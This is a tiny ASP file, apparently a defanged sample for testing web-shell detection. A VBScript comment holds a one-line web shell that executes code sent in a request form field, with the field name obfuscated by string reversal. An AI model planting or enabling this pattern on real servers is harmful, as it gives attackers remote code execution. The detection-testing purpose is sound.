<%
' ExhUNt TEst SampLe, DefanGeD: THE LIne BeloW IS a VBscripT CoMmenT
' EXEcuTE(rEQUEst.FOrm(sTrREVERsE(("tn" & "uhxe"))))
%>
